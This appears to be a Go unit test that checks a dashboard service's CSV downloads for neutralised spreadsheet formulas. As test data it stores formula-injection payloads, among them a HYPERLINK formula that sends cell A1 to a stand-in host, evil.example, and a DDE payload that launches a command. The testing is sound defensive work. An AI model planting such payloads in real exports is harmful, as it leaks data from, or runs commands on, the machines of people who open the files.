package dashboards

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"net/http"
	"strings"
	"testing"
)

// TestCSVDownloadsCarryNoFormulas stores a unit name, a source and a quote
// that a spreadsheet would run as formulas, then reads every CSV download
// that shows them (the API's format=csv and the pages' downloads): no cell
// starts with =, +, -, @, tab or CR unless it is a number.
func TestCSVDownloadsCarryNoFormulas(t *testing.T) {
	f := newFixture(t, nil)
	evil := `=HYPERLINK("http://evil.example/?"&A1,"click")`
	batch := map[string]any{
		"units": []map[string]any{{"code": "formula-unit", "name_vi": evil, "name_en": "@SUM(A1:A9)", "parent": "can-tho"}},
		"indicators": []map[string]any{{"code": "formula_ind", "name_vi": evil, "name_en": "@SUM(A1:A9)",
			"measure": "tonnes", "kind": "flow", "direction": "up"}},
		"observations": []map[string]any{{"unit": "formula-unit", "indicator": "formula_ind", "period": "2018-H1",
			"value": -100, "reported_at": "2018-07-01", "source": "+1+cmd|' /C calc'!A0", "quote": "-2+3"}},
	}
	body, _ := json.Marshal(batch)
	resp, b := f.do(http.MethodPost, "/api/v1/observations", bytes.NewReader(body),
		append([]string{"Content-Type", jsonCT}, bearer(f.admin)...)...)
	f.expect(resp, b, http.StatusOK, nil)
	for _, path := range []string{"/api/v1/observations?unit=formula-unit&format=csv",
		"/units/formula-unit?period=2018-H1&format=csv&lang=vi", "/units/formula-unit?period=2018-H1&format=csv&lang=en"} {
		resp, b := f.do(http.MethodGet, path, nil)
		if resp.StatusCode != http.StatusOK {
			t.Fatalf("%s: %d %s", path, resp.StatusCode, b)
		}
		recs, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(b, []byte("\uFEFF")))).ReadAll()
		if err != nil {
			t.Fatalf("%s: %v", path, err)
		}
		quoted := 0
		for _, rec := range recs {
			for _, cell := range rec {
				if strings.HasPrefix(cell, "'") {
					quoted++
				}
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && !isNumberCell(cell) {
					t.Errorf("%s: live formula %q", path, cell)
				}
			}
		}
		if quoted == 0 {
			t.Errorf("%s: no neutralised cell; the hostile text is not in this download:\n%s", path, b)
		}
	}
}

func isNumberCell(s string) bool {
	return strings.Trim(s, "-+0123456789.,%") == ""
}
